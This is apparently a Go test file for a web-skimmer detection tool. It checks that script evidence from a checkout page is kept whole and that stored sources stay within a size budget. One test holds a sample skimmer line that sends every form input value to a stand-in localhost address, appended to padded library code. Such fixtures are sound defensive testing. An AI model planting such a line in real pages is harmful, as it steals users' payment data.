package pagecheck

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/skimwatch/skimwatch/internal/check/observation"
	"github.com/skimwatch/skimwatch/internal/store"
)

// TestCheckKeepsABigScriptsSourceAsEvidence: a skimmer appended to the end
// of a large library must reach the evidence (and so the dashboard's
// diff), while classification still works on a big parser-inserted inline
// script.
func TestCheckKeepsABigScriptsSourceAsEvidence(t *testing.T) {
	b := startBrowser(t)
	// ~200 KiB of library, then the skimmer line, as a tamper appends it.
	lib := strings.Repeat("window.lib = (window.lib || 0) + 1; // padding padding padding padding\n", 3000)
	skimmer := "document.addEventListener('input', function (e) { new Image().src = 'http://localhost:1/x?' + e.target.value; });\n"
	big := lib + skimmer
	inline := strings.Repeat("window.inlineBig = (window.inlineBig || 0) + 1;\n", 1000) // ~48 KiB
	mux := http.NewServeMux()
	mux.HandleFunc("/checkout", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, "<!doctype html><html><head><script src=\"/big.js\"></script><script>%s</script></head><body><p>pay</p></body></html>", inline)
	})
	mux.HandleFunc("/big.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/javascript")
		fmt.Fprint(w, big)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	opts := testOptions(t)
	opts.Probe = false
	o, err := Check(context.Background(), b, Target{URL: srv.URL + "/checkout"}, opts)
	if err != nil {
		t.Fatal(err)
	}
	find := func(pred func(observation.Script) bool) (observation.Script, bool) {
		for _, s := range o.Scripts {
			if pred(s) {
				return s, true
			}
		}
		return observation.Script{}, false
	}
	t.Run("the big library's source is kept whole, the appended skimmer line included", func(t *testing.T) {
		s, ok := find(func(s observation.Script) bool { return strings.HasSuffix(s.URL, "/big.js") })
		if !ok {
			t.Fatal("big.js not captured")
		}
		if s.Length != len(big) || len(s.Source) != len(big) || !strings.HasSuffix(s.Source, skimmer) {
			t.Errorf("kept %d of %d bytes; ends with the skimmer: %v", len(s.Source), s.Length, strings.HasSuffix(s.Source, skimmer))
		}
	})
	t.Run("a big inline script the server sent is still classified inline", func(t *testing.T) {
		if _, ok := find(func(s observation.Script) bool {
			return s.Kind == observation.ScriptInline && strings.Contains(s.Source, "inlineBig")
		}); !ok {
			t.Errorf("no inline script with inlineBig; scripts: %d", len(o.Scripts))
		}
	})
}

// TestEvidenceSourcesShareOneBudgetPerCheck: whole sources (up to the
// store's cap) are kept until a check has kept maxSourceKeptTotal bytes;
// after that each script keeps only the classification cap, so a page that
// makes thousands of big scripts cannot make one check hold gigabytes.
func TestEvidenceSourcesShareOneBudgetPerCheck(t *testing.T) {
	r := &recorder{}
	big := strings.Repeat("a", 400<<10)
	kept := 0
	for kept+len(big) <= maxSourceKeptTotal {
		if got := r.keepSource(big); len(got) != len(big) {
			t.Fatalf("a source within the budget was cut to %d bytes after %d kept", len(got), kept)
		}
		kept += len(big)
	}
	t.Run("past the budget a source keeps only the classification cap", func(t *testing.T) {
		if got := r.keepSource(big); len(got) != maxSourceClassified {
			t.Fatalf("kept %d bytes past the budget, want %d", len(got), maxSourceClassified)
		}
	})
	t.Run("a small source past the budget is still kept whole", func(t *testing.T) {
		if got := r.keepSource("window.x = 1;"); got != "window.x = 1;" {
			t.Fatalf("kept %q", got)
		}
	})
	t.Run("a source beyond the store's cap is cut at the cap", func(t *testing.T) {
		if got := (&recorder{}).keepSource(strings.Repeat("x", store.MaxScriptSourceBytes+10)); len(got) != store.MaxScriptSourceBytes {
			t.Errorf("kept %d bytes, want %d", len(got), store.MaxScriptSourceBytes)
		}
	})
}
